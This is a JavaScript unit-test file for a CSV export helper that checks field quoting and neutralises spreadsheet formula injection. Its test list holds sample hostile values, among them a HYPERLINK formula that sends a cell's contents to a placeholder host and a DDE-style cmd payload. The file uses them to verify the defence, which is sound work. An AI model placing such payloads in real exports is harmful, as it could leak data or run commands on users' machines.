import { expect, test } from 'vitest';
import { csvLine, spreadsheetSafe } from '../../pipeline/shared/csv.js';

test('fields with quotes, commas or line breaks are quoted, quotes doubled; NULL is empty', () => {
  expect(csvLine(['a', 1, null, undefined, true])).toBe('a,1,,,true');
  expect(csvLine(['x,y', 'say "hi"', 'two\nlines', 'cr\r'])).toBe('"x,y","say ""hi""","two\nlines","cr\r"');
});

test('text that a spreadsheet would run as a formula is prefixed with a quote; numbers and plain text are left alone', () => {
  const hostile = ['=HYPERLINK("http://x/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\tTAB', '\rCR'];
  expect(hostile.map(spreadsheetSafe)).toEqual(hostile.map((h) => `'${h}`));
  expect(['C-100', 'a=b', "O'Neil", '', '12.5'].map(spreadsheetSafe)).toEqual(['C-100', 'a=b', "O'Neil", '', '12.5']);
  expect(csvLine(['=1+1', -2, 3.5, '-x'])).toBe("'=1+1,-2,3.5,'-x");
  expect(csvLine(['=HYPERLINK("u")'])).toBe(`"'=HYPERLINK(""u"")"`);
  expect(csvLine(['\rCR'])).toBe(`"'\rCR"`);
  expect(csvLine(['a;=1+1', 'b'])).toBe('"a;=1+1",b');
});
